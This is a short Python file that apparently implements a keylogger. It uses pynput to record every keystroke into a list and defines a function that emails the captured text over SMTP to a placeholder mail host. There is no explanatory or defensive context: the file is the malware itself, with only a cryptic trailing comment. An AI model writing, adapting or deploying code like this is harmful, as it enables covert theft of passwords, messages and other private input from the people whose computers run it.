import smtplib
from pynput.keyboard import Listener

typed = []

def send():
    server = smtplib.SMTP("mail.host.invalid")
    server.sendmail("a@host.invalid", "b@host.invalid", "".join(typed))

def start():
    Listener(on_press=lambda key: typed.append(str(key))).start()  # fires: call
